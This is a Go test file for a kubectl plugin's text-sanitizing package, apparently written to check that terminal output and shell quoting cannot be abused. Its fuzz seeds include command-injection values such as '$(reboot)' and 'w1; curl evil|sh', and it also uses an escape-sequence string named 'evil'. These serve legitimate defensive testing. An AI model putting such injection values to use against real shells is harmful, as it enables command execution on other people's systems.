// SPDX-License-Identifier: Apache-2.0

package text_test

import (
	"encoding/json"
	"errors"
	"fmt"
	"maps"
	"os/exec"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/kubectl-lifecycle/kubectl-lifecycle/pkg/text"
)

func TestATextIsOneSafeLine(t *testing.T) {
	cases := map[string]struct{ in, want string }{
		"words stay":                         {"node worker-1 is Ready", "node worker-1 is Ready"},
		"other languages stay":               {"节点 żółw", "节点 żółw"},
		"an escape sequence loses its power": {"a\x1b[2Jb", "a[2Jb"},
		"a C1 control goes":                  {"a\u009b2Jb", "a2Jb"},
		"line breaks become spaces":          {"a\n✓ done\r\nb", "a ✓ done b"},
		"a bidi override goes":               {"a\u202etxt.exe", "atxt.exe"},
		"an isolate and a mark go":           {"\u2066a\u2069\u200eb", "ab"},
		"a zero-width space goes":            {"a\u200bb", "ab"},
		"a line separator is a space":        {"a\u2028b", "a b"},
		"invalid UTF-8 goes":                 {"a\xff\xfeb", "ab"},
		"a tag character goes":               {"a\U000e0041b", "ab"},
		"nothing stays nothing":              {"\x00\x07", ""},
	}
	for name, c := range cases {
		t.Run(name, func(t *testing.T) {
			if got := text.Line(c.in); got != c.want {
				t.Errorf("got %q, want %q", got, c.want)
			}
		})
	}
	if got := text.Short(strings.Repeat("ü", 100), 10); got != strings.Repeat("ü", 9)+"…" {
		t.Errorf("a long text is cut to %q", got)
	}
	if got := text.Short("0123456789", 10); got != "0123456789" {
		t.Errorf("a text of just the bound becomes %q", got)
	}
}

// Two names that are different must not look the same on the screen.
func TestNothingThatIsNotSeenStays(t *testing.T) {
	for name, r := range map[string]rune{
		"a soft hyphen": 0xad, "a grapheme joiner": 0x34f, "an Arabic letter mark": 0x61c, "a Hangul filler": 0x3164, "a Hangul initial " +
			"filler": 0x115f,
		"a Hangul medial filler": 0x1160, "a half-width Hangul filler": 0xffa0, "a Khmer inherent vowel": 0x17b4, "a Mongolian separator": 0x180e,
		"a Mongolian selector": 0x180b, "another Mongolian selector": 0x180f, "a word joiner": 0x2060, "an invisible plus": 0x2064, "one that " +
			"is not assigned": 0x2065,
		"Braille without dots": 0x2800, "a variation selector": 0xfe0f, "a further one": 0xe0100, "a language tag": 0xe0001, "a tag": 0xe0061,
		"a reserved tag": 0xe0080, "a note without a head": 0x1d159, "a beam": 0x1d173, "a Khitan filler": 0x16fe4, "a whole " +
			"blank": 0x13441, "a half blank": 0x13442, "a shorthand control": 0x1bca0,
	} {
		t.Run(name, func(t *testing.T) {
			with := "web" + string(r) + "-1"
			for way, got := range map[string]string{
				"Line": text.Line(with), "Block": text.Block(with), "Spaced": text.Spaced(with), "Visible": text.Visible(with),
				"Quote":   text.Quote(with),
				"Command": text.Command(with), "Sprintf": text.Sprintf("%s", with),
			} {
				if got != "web-1" {
					t.Errorf("%s leaves %+q", way, got)
				}
			}
			if _, whole := text.Whole(with); whole {
				t.Error("it is whole")
			}
			raw, back := text.JSON([]byte(`"`+with+`"`)), ""
			if err := json.Unmarshal(raw, &back); err != nil || back != with || strings.ContainsRune(string(raw), r) {
				t.Errorf("in JSON it is %+q (%v)", raw, err)
			}
		})
	}
	for _, seen := range []string{"żółw", "한국어", "ភាសាខ្មែរ", "⠃⠗", "𝅘𝅥", "é", "हिन्दी"} {
		if got := text.Line(seen); got != seen {
			t.Errorf("%+q becomes %+q", seen, got)
		}
	}
}

func TestABlockCannotForgeALine(t *testing.T) {
	got := text.Block("the host is not clean:\n  mount /a\n✓ Clean the host\n\n\x1b[1Anode removed")
	want := "the host is not clean:\n  | mount /a\n  | ✓ Clean the host\n  | [1Anode removed"
	if got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}

type named struct{ name string }

func (n named) String() string { return n.name }

func TestNoArgumentGoesAroundTheFilter(t *testing.T) {
	const evil = "x\x1b]0;evil\x07\u202ey"
	for name, arg := range map[string]any{
		"a text": evil, "an error": errors.New(evil), "a Stringer": named{evil}, "a struct": struct{ S string }{evil},
		"a pointer": &struct{ S string }{evil}, "a list": []string{evil}, "a list of errors": []error{errors.New(evil)},
		"a map": map[string]string{"k": evil}, "bytes": []byte(evil), "a type of text": plainType(evil),
	} {
		t.Run(name, func(t *testing.T) {
			for _, verb := range []string{"%v", "%s", "%+v"} {
				got := text.Sprintf("got "+verb+"\n", arg)
				if strings.ContainsAny(got, "\x1b\x07\u202e") {
					t.Errorf("%s prints %q", verb, got)
				}
			}
		})
	}
	if got := text.Sprintf("%d nodes, %5.1f, %t, %s, %q", 3, 1.5, true, 90*time.Second, "a"); got != `3 nodes,   1.5, true, 1m30s, "a"` {
		t.Errorf("plain values print as %q", got)
	}
	if got := text.Sprintf("%s", text.Safe("\x1b[32m✓\x1b[0m")); got != "\x1b[32m✓\x1b[0m" {
		t.Errorf("a safe text prints as %q", got)
	}
}

type plainType string

func TestALineThatWasLaidOutKeepsItsSpaces(t *testing.T) {
	if got, want := text.Spaced("  a   b\n✓ c\x1b[1A\u202e \t"), "  a   b ✓ c[1A"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
	if got, want := text.Visible("a:\n  b\u009b\u2066: \r c\u00a0d\n"), "a:\n  b:   c d\n"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
	if got := text.Spaced(strings.Repeat("x", 1<<20)); utf8.RuneCountInString(got) != text.MaxLine {
		t.Errorf("a line of %d characters", utf8.RuneCountInString(got))
	}
}

func TestALineToCopyIsNotCutBeforeTheWholeTextIs(t *testing.T) {
	long := strings.Repeat("word ", 500)
	if got := text.Lines("a\n\n" + long); len(got) != 2 || got[1] != strings.TrimSpace(long) {
		t.Errorf("%d lines: %.80q", len(got), got)
	}
	if got := strings.Join(text.Lines(strings.Repeat(long+"\n", 50)), "\n"); utf8.RuneCountInString(got) > text.MaxBlock+100 ||
		!strings.HasSuffix(got, "…") {
		t.Errorf("%d characters that end in %q", len(got), got[len(got)-10:])
	}
}

func TestJSONMeansTheSameAndObeysNobody(t *testing.T) {
	for in, want := range map[string]string{
		`{"a": "żółw 节点 ✓"}`:   `{"a": "żółw 节点 ✓"}`,
		"{\n    \"a\": 1\n}":   "{\n    \"a\": 1\n}",
		"\"x\u202ey\u009bz\"":  `"x\u202ey\u009bz"`,
		"\"\x7f\u200b\ufeff\"": `"\u007f\u200b\ufeff"`,
		"\"\U000e0041\"":       `"\udb40\udc41"`,
		"\"\u2028\u00a0\"":     `"\u2028\u00a0"`,
	} {
		if got := string(text.JSON([]byte(in))); got != want {
			t.Errorf("%q becomes %s, want %s", in, got, want)
		}
	}
}

func TestAWordIsWholeOrNotTaken(t *testing.T) {
	for word, want := range map[string]bool{
		`{"a":"it's  two"}`: true, "": true, "worker-1": true, strings.Repeat("x", text.MaxWord): true,
		strings.Repeat("x", text.MaxWord+1): false, "a\nb": false, "a\tb": false, "a\x1bb": false, "a\u202eb": false, "a\xffb": false,
		"a\u00a0b": false,
	} {
		if _, got := text.Whole(word); got != want {
			t.Errorf("%.40q is whole: %t, want %t", word, got, want)
		}
	}
	long := strings.Repeat("x", 2*text.MaxLine)
	if got := text.Command("echo", long, "a\nb", ""); got != "echo "+long+" 'a b' ''" {
		t.Errorf("got %.80q … %q", got, got[len(got)-20:])
	}
}

func FuzzAWordIsOneWordToAShell(f *testing.F) {
	for _, seed := range []string{"", "worker-1", "it's", "$(reboot)", "`id`", "a b", "~root", "-rf", "*", "a\nb", "w1; curl evil|sh", "\x1b",
		"{a,b}", "#x", "\\"} {
		f.Add(seed)
	}
	shell, err := exec.LookPath("sh")
	if err != nil {
		f.Skip("there is no shell")
	}
	f.Fuzz(func(t *testing.T, word string) {
		quoted := text.Quote(word)
		if strings.ContainsAny(quoted, "\n\x1b\x00") {
			t.Fatalf("%q is quoted as %q", word, quoted)
		}
		if len(quoted) > 32<<10 {
			t.Fatalf("a word of %d bytes", len(quoted))
		}
		out, err := exec.CommandContext(t.Context(), shell, "-c", "set -- "+quoted+`; printf '%s\n%s' "$#" "$1"`).CombinedOutput()
		if want := "1\n" + text.Line(word); err != nil || string(out) != want {
			t.Errorf("sh takes %s for %q (%v), want %q", quoted, out, err, want)
		}
	})
}

func FuzzAWholeWordReachesTheProgramUnchanged(f *testing.F) {
	for _, seed := range []string{"", `{"node":"w1","podCIDRs":["10.0.0.0/8"]}`, "it's", "$(id)  `id`", "\\", "!x", "~", "-n"} {
		f.Add(seed)
	}
	shell, err := exec.LookPath("sh")
	if err != nil {
		f.Skip("there is no shell")
	}
	f.Fuzz(func(t *testing.T, word string) {
		quoted, ok := text.Whole(word)
		if !ok {
			return
		}
		out, err := exec.CommandContext(t.Context(), shell, "-c", "set -- "+quoted+`; printf '%s\n%s' "$#" "$1"`).CombinedOutput()
		if err != nil || string(out) != "1\n"+word {
			t.Errorf("sh takes %s for %q (%v), want %q", quoted, out, err, word)
		}
	})
}

func FuzzJSONMeansTheSame(f *testing.F) {
	f.Add("a\u202e\u009b\x7f\U000e0041\xff\n")
	f.Fuzz(func(t *testing.T, s string) {
		raw, err := json.MarshalIndent(map[string]string{s: s}, "", "  ")
		if err != nil {
			t.Fatal(err)
		}
		safe := text.JSON(raw)
		for _, r := range string(safe) {
			if r != '\n' && !unicode.IsPrint(r) {
				t.Fatalf("%q holds %U", safe, r)
			}
		}
		var before, after map[string]string
		if json.Unmarshal(raw, &before) != nil || json.Unmarshal(safe, &after) != nil || !maps.Equal(before, after) {
			t.Errorf("%q means %q, and became %q", raw, before, after)
		}
	})
}

// The format is the program's own; whatever fills it shows what it is and no more.
func FuzzNoArgumentMakesALine(f *testing.F) {
	f.Add("a\n✓ b", 3, 1.5, true)
	f.Add("error: x\r\nnode/w1 removed\u2028\x1b[1A", -1, 0.0, false)
	f.Fuzz(func(t *testing.T, s string, n int, x float64, yes bool) {
		pointer, list := &s, []string{s, s}
		for _, args := range [][]any{
			{s, n, x, yes}, {errors.New(s), []byte(s), map[string]string{s: s}, &list}, {plainType(s), named{s}, list, struct{ A, b string }{s, s}},
			{pointer, &pointer, []any{s, n, []error{errors.New(s)}}, time.Duration(n)}, {fmt.Errorf("x: %w", errors.New(s)), []named{{s}},
				[2]string{s, s}, nil},
		} {
			for _, verb := range []string{"%v", "%s", "%q", "%+v", "%-8v", "%x"} {
				got := text.Sprintf("ours "+strings.Repeat(verb+" ", len(args))+"\n", args...)
				for _, line := range strings.Split(strings.TrimSuffix(got, "\n"), "\n")[1:] {
					if !strings.HasPrefix(line, "  | ") {
						t.Fatalf("%s of %q makes the line %q", verb, s, line)
					}
				}
				for _, r := range got {
					if r != '\n' && !unicode.IsPrint(r) {
						t.Fatalf("%s of %q prints %U", verb, s, r)
					}
				}
				if len(got) > 32*text.MaxBlock*utf8.UTFMax {
					t.Fatalf("%d bytes", len(got))
				}
			}
		}
	})
}

func FuzzWhatIsShownIsHarmless(f *testing.F) {
	f.Add("a\x1b[2J\nb\u202e\xff")
	f.Fuzz(func(t *testing.T, s string) {
		line, block := text.Line(s), text.Block(s)
		if utf8.RuneCountInString(line) > text.MaxLine || utf8.RuneCountInString(block) > 2*text.MaxBlock {
			t.Errorf("%d and %d characters", utf8.RuneCountInString(line), utf8.RuneCountInString(block))
		}
		for _, r := range line + strings.ReplaceAll(block, "\n", "") {
			if !unicode.IsPrint(r) {
				t.Errorf("%q holds %U", s, r)
			}
		}
		if spaced, visible := text.Spaced(s), text.Visible(s); utf8.RuneCountInString(spaced) > text.MaxLine ||
			strings.ContainsFunc(spaced+visible, func(r rune) bool { return r != '\n' && !unicode.IsPrint(r) }) || strings.Contains(spaced, "\n") {
			t.Errorf("%q is laid out as %q", s, spaced)
		}
		for _, l := range strings.Split(block, "\n")[1:] {
			if !strings.HasPrefix(l, "  | ") {
				t.Errorf("a line of %q begins as one of our own: %q", s, l)
			}
		}
		if text.Line(line) != line || text.Block(line) != line {
			t.Errorf("%q is filtered twice to another text", s)
		}
	})
}

func TestThingsAreCounted(t *testing.T) {
	for n, want := range map[int]string{0: "0 nodes", 1: "1 node", 2: "2 nodes"} {
		if got := text.Count(n, "node"); got != want {
			t.Errorf("got %q, want %q", got, want)
		}
	}
}
